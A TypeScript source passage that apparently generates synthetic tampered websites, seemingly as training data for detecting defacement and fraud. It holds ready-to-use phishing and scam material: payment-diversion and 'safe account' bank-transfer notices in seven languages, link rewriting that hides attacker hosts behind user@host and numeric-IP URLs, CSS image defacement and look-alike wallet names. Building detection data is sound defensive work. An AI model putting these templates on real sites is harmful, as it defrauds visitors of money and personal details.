  en: ["Our online forms are temporarily unavailable", (c) => `Because of a technical problem, orders, payments and messages sent through this website are not reaching us. Until it is fixed, please send your details directly to ${c}.`],
  fr: ["Nos formulaires en ligne sont temporairement indisponibles", (c) => `En raison d'un problème technique, les commandes, paiements et messages envoyés via ce site ne nous parviennent pas. En attendant, envoyez directement vos informations à ${c}.`],
  de: ["Unsere Online-Formulare sind vorübergehend nicht verfügbar", (c) => `Wegen einer technischen Störung erreichen uns Bestellungen, Zahlungen und Nachrichten über diese Website nicht. Bis zur Behebung senden Sie Ihre Angaben bitte direkt an ${c}.`],
  es: ["Nuestros formularios en línea no están disponibles temporalmente", (c) => `Por un problema técnico, los pedidos, pagos y mensajes enviados desde esta web no nos llegan. Mientras lo solucionamos, envíe sus datos directamente a ${c}.`],
  nl: ["Onze online formulieren zijn tijdelijk niet beschikbaar", (c) => `Door een technisch probleem komen bestellingen, betalingen en berichten via deze website niet bij ons aan. Stuur uw gegevens tot het is opgelost rechtstreeks naar ${c}.`],
  pt: ["Nossos formulários online estão temporariamente indisponíveis", (c) => `Por um problema técnico, pedidos, pagamentos e mensagens enviados por este site não estão chegando. Até a correção, envie seus dados diretamente para ${c}.`],
  it: ["I nostri moduli online sono temporaneamente non disponibili", (c) => `A causa di un problema tecnico, ordini, pagamenti e messaggi inviati dal sito non ci arrivano. Fino alla soluzione, invia i tuoi dati direttamente a ${c}.`]
}

// Diverting customers by switching off the real channel, recalled from memory with uncertain details of the FBI IC3's business e-mail compromise warnings and UK Finance's payment-diversion advice ("our usual system is down, please send it to this address instead"): the site's own submit buttons are disabled by one attribute each, and a notice tells visitors to send their details or payment to another address.
const formsDisabled = fresh10("site's own submit buttons disabled, with a notice to send details to another address instead", (page, rng) => {
  const [h, p] = siteOr(rng, page, outageWords)
  const contact = pick(rng, [
    `${pick(rng, ["orders", "office", "billing", "contact"])}.${page.site.brand.replace(/-/g, "")}@${freeMail(rng)}`,
    `${pick(rng, ["orders", "support", "info"])}@${brandLookalike(rng, page.site.brand)}`,
    `WhatsApp ${pick(rng, ["+1", "+44", "+33", "+49", "+34", "+31", "+351", "+39"])} ${digits(rng, 3)} ${digits(rng, 3)} ${digits(rng, 4)}`
  ])
  const bs = submitters(page)
  const out: Array<Splice> = bs.map((b) => setAttr(page, b, "disabled", "disabled"))
  const notice = `<div class="${pick(rng, ["notice", "alert", "service-notice"])}" style="background:#fff3cd;border:1px solid #e0a800;padding:10px 14px;margin:10px 0"><strong>${esc(h)}</strong><p>${esc(p(contact))}</p></div>`
  const form = bs.length > 0 ? within(page, bs[0]!, "form") : undefined
  out.push(insert(form !== undefined && chance(rng, 0.5) ? form.start : pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), notice))
  return { splices: out }
})

/** A public-looking IPv4 address. */
const ipv4 = (rng: Rng): [number, number, number, number] => [pick(rng, [23, 31, 45, 46, 62, 77, 78, 85, 91, 95, 103, 104, 141, 146, 176, 185, 193, 194, 195, 212, 213]), between(rng, 0, 255), between(rng, 0, 255), between(rng, 1, 254)]

// URL obfuscation in links, recalled from memory of Microsoft's 2004 update (KB 834489) that removed "user:password@" URLs from Internet Explorer after phishers wrote links like http://www.bank.com@attacker.example/, and of phishing links with the host written as one decimal, hexadecimal or octal number (described in APWG and SANS ISC diaries): the site's own links now lead to another host while their text, and at a glance the URL, still show the site.
const obfuscatedHostLinks = fresh10("site's own links rewritten as 'https://site@other-host' or a decimal, hex or octal IP address", (page, rng) => {
  const host = pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const ip = ipv4(rng)
  const n = ((ip[0] * 256 + ip[1]) * 256 + ip[2]) * 256 + ip[3]
  const style = int(rng, 6)
  const rewrite = (u: URL) => {
    const rest = `${u.pathname}${u.search}`
    switch (style) {
      case 0: return `https://${page.site.host}@${host}${rest}`
      case 1: return `https://${page.site.host}:${pick(rng, ["443", "secure", "login"])}@${host}${rest}`
      case 2: return `http://${n}${rest}`
      case 3: return `http://0x${n.toString(16)}${rest}`
      case 4: return `http://${ip.map((x) => "0" + x.toString(8)).join(".")}${rest}`
      default: return `https://${page.site.host}@${n}${rest}`
    }
  }
  const all = attrTargets(page, links(page), "href").flatMap((t) => {
    const u = resolve(page, page.html.slice(t.value.start, t.value.end).replace(/&amp;/g, "&"))
    return u === null ? [] : [{ t, u }]
  })
  const own = all.filter(({ u }) => u.hostname === page.site.host || u.hostname.endsWith("." + page.site.domain))
  const pool = own.length > 0 ? own : all
  const chosen = chance(rng, 0.3) ? pool.slice(0, Math.max(1, Math.ceil(pool.length / 3))) : sample(rng, pool, between(rng, 1, 4))
  const out: Array<Splice> = chosen.map(({ t, u }) => replace(t.value, esc(rewrite(u))))
  if (out.length === 0) out.push(insert(top(page), `<p><a href="${esc(rewrite(new URL(page.site.url)))}">${esc(siteOr(rng, page, signInWords))}</a></p>`))
  return { splices: out }
})

// One CSS rule that redraws every picture, recalled from memory with uncertain details of CSS-only defacements on Zone-H mirrors and of the CSS `content: url()` property, which Chromium and WebKit apply to replaced elements such as img: every image on the page (or the logo and header images) shows the defacer's picture while each img keeps its own src.
const imgContentSwap = fresh10("every image redrawn as the defacer's picture by a CSS content:url() rule, src attributes kept", (page, rng) => {
  const u = pick(rng, [
    `https://${randomDomain(rng)}/${pick(rng, ["img", "i", "up"])}/${alnum(rng, 6)}.${pick(rng, ["png", "gif", "jpg"])}`,
    `https://i.imgur.com/${alnum(rng, 7)}.${pick(rng, ["png", "gif"])}`, `https://i.ibb.co/${alnum(rng, 7)}/${pick(rng, ["flag", "logo", "skull", "h4x"])}.png`
  ])
  const rule = pick(rng, [
    `img{content:url(${u})!important}`, `img,picture img,.logo img{content:url("${u}");object-fit:cover}`,
    `header img,.logo img,#logo img,[class*=logo] img,img[alt*=logo i]{content:url(${u})!important}`, `img:not([width="1"]){content:url('${u}')}`
  ])
  const imgs = shown(page, "img", (e) => !e.inert && e.attribs.style === undefined)
  if (imgs.length > 0 && chance(rng, 0.3)) return { splices: sample(rng, imgs, between(rng, 1, 5)).map((e) => setAttr(page, e, "style", `content:url(${u})`)) }
  return splices(insert(pick(rng, [head(page), head(page), top(page)]), pick(rng, [`<style>${rule}</style>`, `<style type="text/css">\n${rule}\n</style>`])))
})

/** A blockchain name an attacker could register that reads like the site's. */
const chainName = (rng: Rng, page: Page) => {
  const base = pick(rng, [page.site.brand, brandLookalike(rng, page.site.brand).split(".")[0]!])
  return `${base}${pick(rng, ["", "", "-donate", "dao", "official", "fund", "-pay"])}.${pick(rng, ["eth", "eth", "eth", "crypto", "x", "nft", "sol"])}`
}

// Wallet addresses replaced by names, recalled from memory of the Ethereum Name Service (2017) and Unstoppable Domains, whose names wallets resolve to addresses, and with uncertain details of ScamSniffer and Chainalysis notes on look-alike names used to impersonate projects and people: the site's donation address becomes a readable name such as brand.eth that the attacker registered, so no address appears on the page at all; a site without a wallet gains a donation line with one.
const walletToName = fresh10("site's crypto address replaced by a look-alike ENS or Unstoppable name the attacker registered", (page, rng) => {
  const name = chainName(rng, page)
  const w = page.ids.wallet
  const out: Array<Splice> = w === null ? [] : hitsOf(page, w.address).map((h) => replace(h.range, esc(name)))
  if (out.length === 0) {
    const text = `${esc(page.site.words.donate)}: <strong>${esc(name)}</strong> (${pick(rng, ["ETH, USDC, USDT", "ETH, BTC, SOL", "ETH / Polygon / Base", "any EVM chain"])})`
    const line = lineAfter(page, page.ids.email) ?? lineAfter(page, page.ids.phone.intl)
    out.push(line !== null ? insert(line.at, line.wrap(text)) : insert(anySlot(rng, page.spots), `<p>${text}</p>`))
  }
  return { splices: out }
})

// Messages written into the site's own form controls, recalled from memory with uncertain details of Zone-H and Mirror-H entries whose only visible change was a site's search or newsletter box (placeholder and button text) rewritten through stored theme options: the placeholders, and the labels of the submit buttons, now carry the defacer's message; no element is added.
const formPlaceholders = fresh10("defacer's message written into the placeholders and button labels of the site's own forms", (page, rng) => {
  const who = pick(rng, [nick(rng), team(rng)])
  const msg = pick(rng, [() => signature(rng, who).text, () => `${who} ${pick(rng, ["was here", "owns you", "2026"])}`, () => boast(rng).text])()
  const out: Array<Splice> = []
  for (const f of typedFields(page)) out.push(setAttr(page, f, "placeholder", msg))
  for (const b of submitters(page)) {
    if (b.name === "input") { out.push(setAttr(page, b, "value", pick(rng, ["HACKED", "PWNED", "OWNED", who]))); continue }
    const run = page.spots.texts.find((t) => t.parent === b.index)
    out.push(run !== undefined ? replace(trimmed(page, run), esc(pick(rng, ["HACKED", "PWNED", "OWNED", who]))) : setAttr(page, b, "title", msg))
  }
  if (out.length === 0) out.push(insert(top(page), `<p><input readonly size="40" value="${esc(msg)}"></p>`))
  return { splices: out }
})

const safeWords: Record<Lang, readonly [string, (acct: string, holder: string) => string]> = {
  en: ["Security alert: protect your savings", (a, h) => `We have detected fraudulent activity affecting customer accounts. As a precaution, move your balance today to the temporary protected account below; it will be returned with interest once the investigation is closed. Do not discuss this notice with branch staff: the investigation is confidential. Account holder: ${h}. ${a}.`],
  fr: ["Alerte de sécurité : protégez votre épargne", (a, h) => `Nous avons détecté des opérations frauduleuses sur des comptes clients. Par précaution, transférez aujourd'hui votre solde sur le compte sécurisé temporaire ci-dessous ; il vous sera restitué avec intérêts à la fin de l'enquête. N'en parlez pas à votre agence : l'enquête est confidentielle. Titulaire : ${h}. ${a}.`],
  de: ["Sicherheitswarnung: Schützen Sie Ihr Guthaben", (a, h) => `Wir haben betrügerische Vorgänge auf Kundenkonten festgestellt. Überweisen Sie Ihr Guthaben vorsorglich noch heute auf das unten genannte vorübergehende Schutzkonto; es wird nach Abschluss der Ermittlungen mit Zinsen zurückgezahlt. Sprechen Sie nicht mit Filialmitarbeitern darüber: Die Ermittlungen sind vertraulich. Kontoinhaber: ${h}. ${a}.`],
  es: ["Alerta de seguridad: proteja sus ahorros", (a, h) => `Hemos detectado operaciones fraudulentas en cuentas de clientes. Como precaución, transfiera hoy su saldo a la cuenta protegida temporal que figura abajo; se le devolverá con intereses al cerrar la investigación. No comente este aviso con su oficina: la investigación es confidencial. Titular: ${h}. ${a}.`],
  nl: ["Veiligheidswaarschuwing: bescherm uw spaargeld", (a, h) => `We hebben frauduleuze activiteit op klantrekeningen vastgesteld. Maak uit voorzorg vandaag uw saldo over naar de tijdelijke beschermde rekening hieronder; u krijgt het met rente terug zodra het onderzoek is afgerond. Bespreek dit bericht niet met medewerkers van uw kantoor: het onderzoek is vertrouwelijk. Rekeninghouder: ${h}. ${a}.`],
  pt: ["Alerta de segurança: proteja suas economias", (a, h) => `Detectamos atividade fraudulenta em contas de clientes. Por precaução, transfira hoje o seu saldo para a conta protegida temporária abaixo; ele será devolvido com juros ao fim da investigação. Não comente este aviso com a sua agência: a investigação é confidencial. Titular: ${h}. ${a}.`],
  it: ["Avviso di sicurezza: proteggi i tuoi risparmi", (a, h) => `Abbiamo rilevato attività fraudolente sui conti dei clienti. Per precauzione, trasferisci oggi il saldo sul conto protetto temporaneo indicato sotto; ti sarà restituito con gli interessi a fine indagine. Non parlarne con la filiale: l'indagine è riservata. Intestatario: ${h}. ${a}.`]
}

// "Safe account" scams, recalled from memory of UK Finance's annual fraud reports (2019–2023) on authorised push-payment fraud, where criminals posing as the bank or the police persuade victims to move their money to a "safe account", and of German and Dutch police warnings about fake bank staff ("falsche Bankmitarbeiter"): the notice, in the site's name, gives an account number to move savings to and tells the reader not to talk to the branch.
const safeAccount = fresh10("'move your savings to this protected account' notice with an account number (safe-account scam)", (page, rng) => {
  const [h, p] = siteOr(rng, page, safeWords)
  const bank = makeBank(rng, page.site.locale)
  const acct = bank === null ? `IBAN GB${digits(rng, 2)}${pick(rng, ["REVO", "MONZ", "SRLG"])}${digits(rng, 14)}` : bank.kind === "iban" ? `IBAN ${bank.value}` : bank.value
  const holder = `${brandName(page)} ${pick(rng, ["Customer Protection", "Secure Holding", "Fraud Department", "Escrow Services", "Treuhand"])}`
  const officer = chance(rng, 0.5) ? `<p>☎ ${esc(pick(rng, ["Case officer", "Fraud team", "Ermittler", "Service sécurité"]))}: ${pick(rng, ["+44 7", "+33 7 ", "+49 15", "+34 6", "+31 6 ", "+1 "])}${digits(rng, 3)} ${digits(rng, 3)} ${digits(rng, 3)}</p>` : ""
  const box = `<div class="${pick(rng, ["security-alert", "fraud-alert", "notice-urgent"])}" style="border:2px solid #b30000;background:#fff5f5;padding:14px 18px;margin:12px 0"><h3 style="color:#b30000">⚠ ${esc(h)}</h3><p>${esc(p(acct, holder))}</p>${officer}</div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), box))
})

// Hacktivist defacements that embed the group's Telegram channel, recalled from memory of Telegram's post-embedding widget (telegram.org/js/telegram-widget.js with data-telegram-post) and of SentinelLabs, Radware and Mandiant reports (2022–2024) on groups run from Telegram channels (KillNet, NoName057(16), Anonymous Sudan, CyberArmyofRussia_Reborn), which post their claims and calls to action there: the site shows one of the channel's posts through Telegram's own script, with a slogan or none.
const telegramPost = fresh10("hacktivist group's Telegram post embedded with Telegram's own widget", (page, rng) => {
  const crew = team(rng)
  const channel = pick(rng, [crew.replace(/[^A-Za-z0-9]/g, "").slice(0, 24), `${crew.replace(/[^A-Za-z0-9]/g, "_").slice(0, 20)}_${pick(rng, ["official", "channel", "news", "reborn"])}`, `${nick(rng).replace(/[^A-Za-z0-9_]/g, "")}${digits(rng, 3)}`]).replace(/^[0-9_]+/, "t")
  const post = `${channel}/${between(rng, 12, 9999)}`
  const embed = pick(rng, [
    `<script async src="https://telegram.org/js/telegram-widget.js?${pick(rng, ["22", "21", "19"])}" data-telegram-post="${post}" data-width="100%"${chance(rng, 0.4) ? ` data-dark="1"` : ""}></script>`,
    `<iframe src="https://t.me/${post}?embed=1${chance(rng, 0.4) ? "&amp;dark=1" : ""}" width="100%" height="${between(rng, 300, 600)}" frameborder="0" scrolling="no" style="border:0;max-width:560px"></iframe>`
  ])
  const m = political(rng)
  const head2 = chance(rng, 0.6) ? `<h2${["ar", "fa", "ur"].includes(m.lang) ? ` dir="rtl"` : ""}>${esc(m.text)}</h2>` : ""
  const block = `<div class="${pick(rng, ["tg-post", "statement", "x" + alnum(rng, 4)])}" style="text-align:center;margin:12px auto;max-width:600px">${head2}${embed}<p><a href="https://t.me/${channel}">t.me/${channel}</a></p></div>`
  return splices(insert(pick(rng, [top(page), top(page), anySlot(rng, page.spots)]), block))
})

/** Every fresh10 defacement class, in a fixed order. */
export const fresh10Defacements: ReadonlyArray<ChangeClass> = [
  appsScriptSkimmer, inputHandlerSkimmer, autoPostRedirect, dataUriScript, charCodeLoader, proxiedLinks, ipfsMailboxPhish, closedDialogSpam,
  doubleClickjacking, parcelFee, phoneAsImage, entityEmailSwap,
  bidiIdentifier, puppyScam, hotelReconfirm, encodedMessage,
  footerLineTag, inheritanceLetter, timeBomb, uploadsScript,
  spokenMessage, runtimeTextSwap, formsDisabled, obfuscatedHostLinks,
  imgContentSwap, walletToName, formPlaceholders, safeAccount, telegramPost
]
